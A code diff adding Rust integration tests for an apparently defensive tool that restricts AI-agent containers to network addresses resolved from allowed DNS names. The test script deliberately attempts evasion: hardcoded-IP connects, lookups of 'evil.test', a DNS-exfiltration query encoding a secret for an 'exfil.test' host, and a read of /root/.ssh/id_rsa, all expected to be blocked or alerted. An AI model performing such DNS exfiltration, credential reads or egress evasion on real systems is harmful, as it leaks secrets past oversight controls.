@@ -1291,3 +1291,184 @@ fn a_chroot_inside_an_agent_container_does_not_hide_a_credential_read() {
     let _ = std::fs::remove_dir_all(&avol);
     let _ = std::fs::remove_dir_all(&pvol);
 }
+
+/// A test container serving HTTP on 8080; returns its guard and address.
+fn http_target(tag: &str) -> (common::ContainerGuard, std::net::Ipv4Addr) {
+    let name = format!("agtest-{tag}-{}", std::process::id());
+    let guard = common::ContainerGuard(name.clone());
+    common::docker(&[
+        "run",
+        "-d",
+        "--name",
+        &name,
+        common::TEST_IMAGE,
+        "busybox",
+        "httpd",
+        "-f",
+        "-p",
+        "8080",
+    ]);
+    let ip = common::docker(&["inspect", "-f", "{{.NetworkSettings.IPAddress}}", &name]);
+    let ip = ip
+        .parse()
+        .unwrap_or_else(|e| panic!("container {name} address {ip:?}: {e}"));
+    (guard, ip)
+}
+
+/// Runs `script` in a container (labelled `agentguard.io/agent=claude`
+/// when `agent`) with the evade helper; returns its output.
+fn run_with_evade(name: &str, agent: bool, script: &str) -> String {
+    let evade = common::evade::evade_bin();
+    let mount = format!("{}:/bin/evade:ro", evade.display());
+    let name = format!("agtest-{name}-{}", std::process::id());
+    let _guard = common::ContainerGuard(name.clone());
+    let mut args = vec!["--name", name.as_str(), "-v", mount.as_str()];
+    if agent {
+        args.extend(["--label", "agentguard.io/agent=claude"]);
+    }
+    args.extend([common::TEST_IMAGE, "sh", "-c", script]);
+    docker_run(&args)
+}
+
+/// The value of `key` in `out`'s line starting with `key `.
+fn line<'a>(out: &'a str, key: &str) -> &'a str {
+    out.lines()
+        .find_map(|l| l.strip_prefix(&format!("{key} ")))
+        .unwrap_or_else(|| panic!("no {key:?} line in:\n{out}"))
+}
+
+/// Egress by name: an agent container reaches an address only if a DNS
+/// answer it received for an allowed name gave it (an exact name, a `*.`
+/// suffix through a CNAME chain, over UDP and TCP), for the answer's TTL
+/// (clamped to 5 s). A hardcoded address, an address another agent
+/// resolved, and an address after its TTL are refused (EPERM); a query
+/// for an unlisted name is dropped in the kernel (the server never sees
+/// it; a UDP send fails with EPERM) and alerted with the name; binding port 53 (to answer oneself) is
+/// refused. Reading a credential then takes even the allowed names away,
+/// but not from a sibling agent container. An unlabelled container runs
+/// the same script untouched.
+#[test]
+fn agents_reach_only_what_allowed_names_resolved_to() {
+    use common::dns::{DnsServer, Rec};
+    let Some(_g) = ready() else { return };
+    let gw = bridge_gateway();
+    let gw_ip: std::net::Ipv4Addr = gw.parse().expect("gateway address");
+    let (_t1, t1) = http_target("dns-t1");
+    let (_t2, t2) = http_target("dns-t2");
+    let (_t3, t3) = http_target("dns-t3");
+    let exfil = "c2vjcmv0-aws-key.exfil.test";
+    let zone = [
+        ("api.agent.test", Rec::A(t1), 1),
+        ("mirror.pkg.test", Rec::Cname("edge.cdn.test".into()), 60),
+        ("edge.cdn.test", Rec::A(t2), 60),
+        ("evil.test", Rec::A(t3), 60),
+        (exfil, Rec::A(t3), 60),
+    ]
+    .into_iter()
+    .map(|(n, r, t)| (n.to_owned(), (r, t)))
+    .collect();
+    let dns = DnsServer::start(gw_ip, zone);
+    let dir = std::env::temp_dir().join(format!("agtest-dnspol-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).expect("mkdir");
+    std::fs::write(
+        dir.join("net.yaml"),
+        format!(
+            "name: egress\ndns_resolvers: [{gw}]\nrules:\n  - name: agent-egress\n    kinds: [connect, send]\n    match: {{ agent: any }}\n    when:\n      dest: {{ cidrs: [0.0.0.0/0, \"::/0\"] }}\n      except: {{ loopback: true, dns_resolver: true, domains: [api.agent.test, \"*.pkg.test\"] }}\n    action: deny\n    severity: high\n    message: \"{{comm}} ({{agent}}) connected to {{addr}}:{{port}}\"\n  - name: credential-read\n    kinds: [open]\n    match: {{ agent: any }}\n    when: {{ path: [\"/root/.ssh/**\"] }}\n    action: alert\n    taint: true\n    severity: high\n    message: \"{{comm}} read {{path}}\"\n"
+        ),
+    )
+    .expect("write policy");
+    let d = Daemon::start(&dir, "dns");
+    let script = format!(
+        "{GOT} \
+        echo \"hard $(got evade connect {t2} 8080)\"; \
+        echo \"api $(got evade dns-connect {gw} api.agent.test 8080)\"; \
+        echo \"cname $(got evade dns-connect {gw} mirror.pkg.test 8080)\"; \
+        echo \"evil $(got evade dns-query {gw} evil.test)\"; \
+        echo \"exfil $(got evade dns-query {gw} {exfil} tcp)\"; \
+        echo \"bind $(got evade bind53)\"; \
+        echo \"tcp $(got evade dns-connect {gw} api.agent.test 8080 tcp)\"; \
+        echo \"again $(got evade connect {t1} 8080)\"; \
+        sleep 7; \
+        echo \"expired $(got evade connect {t1} 8080)\"; \
+        mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa >/dev/null; \
+        echo \"tainted $(got evade dns-connect {gw} api.agent.test 8080)\""
+    );
+    let agent = run_with_evade("dns-agent", true, &script);
+    let want = [
+        ("hard", "err EPERM".to_owned()),
+        ("api", format!("ok addr={t1}")),
+        ("cname", format!("ok addr={t2}")),
+        // A UDP query dropped at egress fails its send; over TCP the
+        // segment never arrives and the server gives up on the stream.
+        ("evil", "err EPERM".to_owned()),
+        ("exfil", "err ENODATA".to_owned()),
+        ("bind", "err EPERM".to_owned()),
+        ("tcp", format!("ok addr={t1}")),
+        ("again", "ok".to_owned()),
+        ("expired", "err EPERM".to_owned()),
+        ("tainted", "err EPERM".to_owned()),
+    ];
+    for (k, v) in &want {
+        assert_eq!(
+            line(&agent, k),
+            v,
+            "{k}: agent output:\n{agent}\n{}",
+            d.log()
+        );
+    }
+    let seen = dns.seen();
+    assert!(seen.iter().any(|n| n == "api.agent.test"), "{seen:?}");
+    assert!(seen.iter().any(|n| n == "mirror.pkg.test"), "{seen:?}");
+    assert!(
+        !seen.iter().any(|n| n == "evil.test" || n == exfil),
+        "a dropped query reached the server: {seen:?}"
+    );
+    // The sibling agent: its own lookups work, the other agent's do not.
+    let sib = run_with_evade(
+        "dns-sibling",
+        true,
+        &format!(
+            "{GOT} echo \"other $(got evade connect {t2} 8080)\"; \
+            echo \"api $(got evade dns-connect {gw} api.agent.test 8080)\""
+        ),
+    );
+    assert_eq!(line(&sib, "other"), "err EPERM", "{sib}");
+    assert_eq!(line(&sib, "api"), format!("ok addr={t1}"), "{sib}");
+    // The unlabelled container is untouched.
+    let plain = run_with_evade("dns-plain", false, &script);
+    for k in ["hard", "again", "expired", "tainted", "bind"] {
+        assert!(line(&plain, k).starts_with("ok"), "{k}: {plain}");
+    }
+    assert_eq!(line(&plain, "evil"), format!("ok addr={t3}"), "{plain}");
+    let a = d.wait_alert("agent-egress", |a| {
+        a["event"]["kind"] == "dns"
+            && a["event"]["dns"]["name"] == exfil
+            && a["result"]["outcome"] == "denied"
+    });
+    let m = a["decision"]["message"].as_str().unwrap_or_default();
+    assert!(m.contains(exfil) && m.contains("dropped"), "{a}");
+    assert_eq!(a["event"]["dns"]["tcp"], true, "{a}");
+    assert_eq!(a["event"]["identity"]["agent"]["name"], "claude", "{a}");
+    d.wait_alert("agent-egress", |a| {
+        a["event"]["kind"] == "dns" && a["event"]["dns"]["name"] == "evil.test"
+    });
+    d.wait_alert("agent-egress", |a| {
+        a["event"]["kind"] == "connect"
+            && a["event"]["net"]["addr"] == t2.to_string()
+            && a["result"]["outcome"] == "denied"
+    });
+    // Allowed connects raise nothing.
+    assert!(
+        !d.alerts()
+            .iter()
+            .any(|a| a["decision"]["rule"] == "agent-egress"
+                && a["event"]["kind"] == "connect"
+                && a["result"]["outcome"] != "denied"),
+        "{:?}",
+        d.alerts()
+    );
+    d.stop();
+    cleanup();
+    let _ = std::fs::remove_dir_all(&dir);
+}
